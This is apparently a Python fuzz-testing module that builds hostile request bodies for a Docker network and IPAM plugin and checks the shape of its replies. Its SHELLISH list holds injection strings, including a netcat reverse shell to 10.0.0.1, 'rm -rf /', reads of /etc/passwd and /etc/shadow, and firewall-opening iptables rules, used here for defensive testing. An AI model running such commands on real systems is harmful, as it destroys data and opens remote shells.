"""Hostile inputs for the fuzz suite: strategies, the reply contract, and case counters.

Two kinds of bodies are generated for every endpoint:
  * from scratch: arbitrary JSON (and non-JSON bytes), malformed and truncated text, wrong
    types, huge and unicode strings, negative/enormous numbers;
  * mutations of the real bodies dockerd 20.10 sent (tests/data/), where one or more
    values are replaced by hostile ones (shell metacharacters, interface names, paths, NUL,
    CIDRs/addresses of the wrong family), keys are dropped or added, types are swapped.

The contract every reply must meet (`check_reply`): a status in ALLOWED_STATUS, a JSON body,
and either a valid reply for the method or {"Err": <non-empty, printable, bounded>}, never the
server's "internal error" (an uncaught exception).
"""

from __future__ import annotations

import ipaddress
import json
from collections import Counter, defaultdict
from typing import Any
from urllib.parse import quote

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

ALLOWED_STATUS = {200, 400, 404, 409, 413, 500}
# An error message must not grow with the input: the fuzz sends strings of 64 KiB and more,
# fields are capped at 512 characters (common.wire.MAX_TEXT), and repr() of 512 of the worst
# characters is ~5 KiB. 8 KiB is a bound no honest message reaches and any echo of a large
# input exceeds.
MAX_ERR = 8192

COUNTS: Counter[str] = Counter()
OUTCOMES: defaultdict[str, Counter[str]] = defaultdict(Counter)


def count(target: str, outcome: str) -> None:
    COUNTS[target] += 1
    OUTCOMES[target][outcome] += 1


def fuzz_settings(examples: int) -> settings:
    return settings(
        max_examples=examples,
        deadline=None,
        derandomize=True,
        database=None,
        print_blob=True,
        suppress_health_check=list(HealthCheck),
    )


# -- hostile values ----------------------------------------------------------------------------

SHELLISH = [
    "$(reboot)",
    "-o mtu=$(reboot)",
    "1500;reboot",
    "1500 && reboot",
    ";rm -rf /",
    "`id`",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "../../etc",
    "../../../../etc/passwd",
    "/etc/shadow",
    "/proc/self/mem",
    "eth0",
    "lo",
    "rt-+",
    "rt-00000000000",
    "rtc00000000000",
    "docker0",
    "\x00",
    "eth0\x00",
    "a\nb",
    "\r\n\r\nHTTP/1.1 200 OK",
    "%s%s%s%n",
    "{{7*7}}",
    "' OR 1=1 --",
    "-j ACCEPT",
    "-A ROUTED-FORWARD -j ACCEPT",
    "*filter\n-A FORWARD -j ACCEPT\nCOMMIT",
    "true; reboot",
    "\u202eeth0",
    "\ud800",  # a lone surrogate: valid in JSON text, not encodable as UTF-8
    "\U0001f4a9" * 3,
    "é" * 600,
    "x" * 513,
    "x" * 65_536,
    " ",
    "",
]
ADDRESSES = [
    "10.0.0.1",
    "10.0.0.1/32",
    "10.0.0.0/24",
    "100.64.0.5",
    "100.64.0.5/32",
    "169.254.1.1",
    "0.0.0.0",
    "255.255.255.255",
    "10.0.0.256",
    "10.0.0.1/33",
    "10.0.0.1/-1",
    "10.0.0.1/24",  # host bits set where a network is expected
    "1.2.3",
    "01.02.03.04",
    "::",
    "::1",
    "::ffff:10.0.0.1",
    "fe80::1%eth0",
    "2001:db8::1",
    "2001:db8::1/128",
    "2001:db8::/64",
    "2001:db8::/120",
    "fd00::/8",
    "10.1.0.0/16",
    "100.64.0.0/10",
    "192.0.2.0/24",
    "198.51.100.0/24",
    "10.0.0.0/8",
]
NUMBERS = [0, -1, 1, 2**31, -(2**31), 2**63, 2**64 + 1, -(2**70), 10**400, 1e308, -1e-308, 0.5]

hostile_text = st.one_of(
    st.sampled_from(SHELLISH + ADDRESSES),
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=600),
    st.binary(max_size=20).map(lambda b: b.decode("latin-1")),
    st.integers(min_value=513, max_value=9_000).map(lambda n: "é" * n),
    st.from_regex(r"[0-9a-f]{60,68}", fullmatch=True),
    st.from_regex(r"[0-9A-Fa-f]{64}", fullmatch=True),
)
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.sampled_from(NUMBERS),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text,
)
json_values = st.recursive(
    scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=5),
        st.dictionaries(st.one_of(hostile_text, st.text(max_size=10)), children, max_size=5),
    ),
    max_leaves=12,
)


def dumps(value: Any) -> bytes:
    """JSON the way a client might send it (lone surrogates escaped, big ints as digits)."""
    return json.dumps(value).encode()


def _deep(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


@st.composite
def mutated(draw: st.DrawFn, base: dict[str, Any], most: int = 4) -> Any:
    """`base` with 1 to `most` hostile edits anywhere in its tree."""
    body: Any = json.loads(json.dumps(base))
    for _ in range(draw(st.integers(1, most))):
        body = _mutate_once(draw, body)
    return body


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix]
    if isinstance(value, dict):
        for key, item in value.items():
            found += _paths(item, (*prefix, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            found += _paths(item, (*prefix, index))
    return found


def _mutate_once(draw: st.DrawFn, body: Any) -> Any:
    path = draw(st.sampled_from(_paths(body)))
    action = draw(
        st.sampled_from(["replace", "replace", "replace", "drop", "add", "wrap", "null", "type"])
    )
    if not path:
        if action in ("wrap", "replace"):
            return draw(st.one_of(json_values, st.just([body])))
        return body
    parent: Any = body
    for step in path[:-1]:
        parent = parent[step]
    last = path[-1]
    current = parent[last]
    if action == "replace":
        parent[last] = draw(st.one_of(scalars, json_values))
    elif action == "drop" and isinstance(parent, dict):
        del parent[last]
    elif action == "drop" and isinstance(parent, list):
        parent.pop(last)
    elif action == "add" and isinstance(current, dict):
        current[draw(hostile_text)] = draw(json_values)
    elif action == "add" and isinstance(current, list):
        current.append(draw(json_values))
    elif action == "wrap":
        parent[last] = [current]
    elif action == "null":
        parent[last] = None
    elif action == "type":
        parent[last] = (
            str(current) if not isinstance(current, str) else draw(st.sampled_from(NUMBERS))
        )
    return body


def raw_bodies(base: dict[str, Any] | None) -> st.SearchStrategy[bytes]:
    """Request bodies as bytes: from scratch, truncated/corrupted real ones, and non-JSON."""
    base_text = dumps(base if base is not None else {})
    options = [
        st.just(base_text),
        json_values.map(dumps),
        st.dictionaries(hostile_text, json_values, max_size=6).map(dumps),
        st.binary(max_size=200),
        st.sampled_from(
            [
                b"",
                b" ",
                b"null",
                b"{",
                b"}",
                b'{"a":',
                b"[]",
                b'"x"',
                b"1e999999",
                b"-" + b"9" * 5000,
                b"\xff\xfe{}",
                b'{"NetworkID": NaN}',
                b'{"NetworkID": Infinity}',
                b'{"a": "\\ud800"}',
                _deep(100_000),
                b'{"a":' * 5000 + b"1" + b"}" * 5000,
                b"\x00" * 64,
            ]
        ),
        st.integers(0, max(0, len(base_text) - 1)).map(lambda n: base_text[:n]),
        st.tuples(st.integers(0, len(base_text)), st.binary(min_size=1, max_size=8)).map(
            lambda t: base_text[: t[0]] + t[1] + base_text[t[0] :]
        ),
    ]
    if base is not None:
        options += [
            mutated(base, 1).map(dumps),
            mutated(base, 1).map(dumps),
            mutated(base).map(dumps),
        ]
    return st.one_of(options)


# -- the reply contract ----------------------------------------------------------------------


def check_err(message: Any) -> None:
    """Assert the error contract: a short, printable message, never an uncaught exception."""
    assert isinstance(message, str), f"Err is not a string: {message!r}"
    assert message, "Err is empty"
    assert message.isprintable(), f"Err is not printable: {message[:200]!r}"
    assert len(message) <= MAX_ERR, f"Err is {len(message)} characters long: {message[:200]!r}"
    assert "internal error" not in message, f"uncaught exception: {message[:500]}"


def check_reply(method: str, status: int, content: bytes) -> tuple[str, Any]:
    """Assert the reply contract; returns (outcome for the counters, parsed body)."""
    assert status in ALLOWED_STATUS, f"{method}: status {status}: {content[:300]!r}"
    try:
        body = json.loads(content)
    except ValueError:
        raise AssertionError(f"{method}: reply is not JSON: {content[:300]!r}") from None
    assert isinstance(body, dict), f"{method}: reply is not an object: {body!r}"
    if status != 200:
        assert set(body) <= {"Err", "Error"}, body
        check_err(body.get("Err"))
        return str(status), body
    assert "Err" not in body and "Error" not in body, (method, body)
    validate_success(method, body)
    return "200", body


def _cidr(value: Any) -> None:
    assert isinstance(value, str) and "/" in value, value
    ipaddress.ip_interface(value)


def _bare_ip(value: Any) -> None:
    assert isinstance(value, str) and "/" not in value, value
    ipaddress.ip_address(value)


def validate_success(method: str, body: dict[str, Any]) -> None:
    """The shapes of protocol.md §1-4 for each method (what dockerd can decode)."""
    name = method.split(".", 1)[-1]
    if method == "Plugin.Activate":
        assert body in ({"Implements": ["IpamDriver"]}, {"Implements": ["NetworkDriver"]}), body
    elif method == "IpamDriver.GetCapabilities":
        assert set(body) <= {"RequiresMACAddress", "RequiresRequestReplay"}, body
        assert all(isinstance(v, bool) for v in body.values())
    elif method == "IpamDriver.GetDefaultAddressSpaces":
        assert isinstance(body.get("LocalDefaultAddressSpace"), str), body
        assert isinstance(body.get("GlobalDefaultAddressSpace"), str), body
    elif method == "IpamDriver.RequestPool":
        assert isinstance(body.get("PoolID"), str) and body["PoolID"], body
        ipaddress.ip_network(body["Pool"])
        assert "/" in body["Pool"] and isinstance(body.get("Data"), dict), body
    elif method == "IpamDriver.RequestAddress":
        _cidr(body.get("Address"))
        assert isinstance(body.get("Data", {}), dict), body
    elif method == "NetworkDriver.GetCapabilities":
        assert body.get("Scope") in ("local", "global"), body
    elif name == "GwAllocCheck":
        assert body == {"SkipIPv4": True, "SkipIPv6": True}, body
    elif name == "Join":
        iface = body["InterfaceName"]
        assert iface is None or (
            isinstance(iface.get("SrcName"), str) and iface.get("DstPrefix") == "eth"
        ), body
        _bare_ip(body["Gateway"])
        for route in body.get("StaticRoutes") or []:
            _cidr(route["Destination"])
            if route["RouteType"] == 0:
                _bare_ip(route["NextHop"])
    elif name == "EndpointOperInfo":
        assert body == {"Value": {}}, body
    elif name == "AllocateNetwork":
        assert body == {"Options": {}}, body
    elif name == "CreateEndpoint":
        assert body in ({}, {"Interface": None}), body  # never echo what dockerd sent
    else:
        assert body == {}, (method, body)


def unknown_paths(near_misses: list[str]) -> st.SearchStrategy[str]:
    """URL paths no handler serves: arbitrary quoted text, plus near misses of real methods."""
    common = ["..%2F..%2Fetc%2Fpasswd", "Plugin.Activate%00", "a" * 2000]
    return st.one_of(
        st.text(min_size=0, max_size=300).map(lambda s: quote(s, safe="")),
        st.sampled_from([*near_misses, *common]),
    )
